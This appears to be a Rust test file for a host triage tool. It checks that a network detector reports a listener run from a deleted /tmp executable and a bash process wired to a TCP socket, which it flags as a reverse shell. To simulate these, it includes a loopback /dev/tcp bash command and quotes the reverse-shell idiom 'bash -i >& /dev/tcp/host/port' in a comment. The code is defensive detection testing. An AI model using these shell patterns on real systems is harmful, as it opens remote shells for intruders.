//! Live network checks: a real listener started from a deleted copy of an executable in
//! /tmp, and a reverse-shell-like bash whose fd is a TCP connection to a listener the test
//! owns. Both must be reported with their exact pid.

mod common;

use rampart_core::{HostRoot, Report};
use rampart_triage::checks::network::Network;
use rampart_triage::{Check, Context, Options};
use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

/// Kills the child when the test ends, however it ends.
struct KillOnDrop(Child);

impl Drop for KillOnDrop {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn live_proc() -> bool {
    if !Path::new("/proc/self/stat").exists() || !Path::new("/proc/net/tcp").exists() {
        eprintln!("skipped: /proc is not available");
        return false;
    }
    true
}

fn run_network() -> Report {
    let ctx = Context::new(HostRoot::live(), Options::default());
    rampart_triage::run(&ctx, &[Box::new(Network::new()) as Box<dyn Check>])
}

/// Not a test on its own: when started with `RAMPART_TEST_LISTENER=1` (by the test below,
/// from a copy of this very binary), listens on a free loopback port, prints it, waits.
#[test]
fn helper_listener() {
    if std::env::var_os("RAMPART_TEST_LISTENER").is_none() {
        return;
    }
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    println!("PORT={}", l.local_addr().unwrap().port());
    std::thread::sleep(Duration::from_secs(60));
}

#[test]
fn listener_from_deleted_executable_in_tmp_is_reported_with_its_pid() {
    if !live_proc() {
        return;
    }
    // A copy of this test binary, run from /tmp and deleted, as a dropper would.
    let dir = tempfile::Builder::new()
        .prefix("rampart-net-")
        .tempdir_in("/tmp")
        .unwrap();
    let exe = dir.path().join("x");
    std::fs::copy(std::env::current_exe().unwrap(), &exe).unwrap();
    let mut child = KillOnDrop(
        Command::new(&exe)
            .args(["--exact", "helper_listener", "--nocapture", "--test-threads=1"])
            .env("RAMPART_TEST_LISTENER", "1")
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = child.0.id();
    let mut out = BufReader::new(child.0.stdout.take().unwrap());
    let port: u16 = loop {
        let mut line = String::new();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "listener exited before printing its port"
        );
        // libtest may print "test helper_listener ... " on the same line first.
        if let Some(at) = line.find("PORT=") {
            break line[at + 5..].trim().parse().unwrap();
        }
    };
    std::fs::remove_file(&exe).unwrap();

    let report = run_network();
    let listeners = common::expect_id(&report, "network.listeners");
    let ev = listeners
        .evidence
        .iter()
        .find(|e| e.location == format!("tcp 127.0.0.1:{port}"))
        .unwrap_or_else(|| panic!("listener on {port} not listed: {listeners:#?}"));
    assert_eq!(ev.pid, Some(pid));
    assert!(ev.detail.contains(&format!("pid {pid} x (")), "{}", ev.detail);
    assert!(ev.detail.contains("(deleted)"), "{}", ev.detail);

    let deleted: Vec<_> = common::with_id(&report, "network.exe-in-temp")
        .into_iter()
        .filter(|f| f.evidence.iter().any(|e| e.pid == Some(pid)))
        .collect();
    assert_eq!(deleted.len(), 1, "{:#?}", report.findings);
    let f = deleted[0];
    assert_eq!(f.severity, rampart_core::Severity::Critical);
    assert_eq!(
        f.action.as_deref(),
        Some(format!("kill-quarantine pid={pid}").as_str())
    );
    assert!(
        f.evidence[0]
            .detail
            .contains(&format!("listens on tcp 127.0.0.1:{port}")),
        "{f:#?}"
    );
}

#[test]
fn shell_wired_to_a_tcp_connection_is_a_reverse_shell() {
    if !live_proc() {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // bash opens the connection itself, as `bash -i >& /dev/tcp/host/port` does.
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port}; sleep 60 <&3 >&3");
    let bash = KillOnDrop(
        Command::new("/bin/bash")
            .args(["-c", &script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let pid = bash.0.id();
    listener.set_nonblocking(true).unwrap();
    let start = Instant::now();
    let _conn = loop {
        match listener.accept() {
            Ok((c, _)) => break c,
            Err(_) if start.elapsed() < Duration::from_secs(10) => {
                std::thread::sleep(Duration::from_millis(20))
            }
            Err(e) => panic!("bash never connected: {e}"),
        }
    };

    let report = run_network();
    let shells = common::with_id(&report, "network.reverse-shell");
    let f = shells
        .iter()
        .find(|f| f.evidence.iter().any(|e| e.pid == Some(pid)))
        .unwrap_or_else(|| panic!("bash pid {pid} not reported: {:#?}", report.findings));
    assert_eq!(f.severity, rampart_core::Severity::Critical);
    assert!(
        f.evidence
            .iter()
            .any(|e| e.detail == format!("connected to 127.0.0.1:{port}") && e.location.contains("fd 3")),
        "{f:#?}"
    );

    // The listener side (this test process, not a shell) is not called a reverse shell.
    let me = std::process::id();
    assert!(!shells
        .iter()
        .any(|f| f.evidence.iter().any(|e| e.pid == Some(me))));
}

#[test]
fn missing_proc_is_a_counted_error_not_a_crash() {
    let ctx = Context::new(HostRoot::live(), Options::default());
    let dir = tempfile::tempdir().unwrap();
    let report = rampart_triage::run(
        &ctx,
        &[Box::new(Network::with_proc(dir.path().join("proc"))) as Box<dyn Check>],
    );
    assert_eq!(report.errors.len(), 1, "{report:#?}");
    assert!(
        report.errors[0].message.contains("/proc is not mounted"),
        "{:?}",
        report.errors
    );
    assert!(report.findings.is_empty());
}
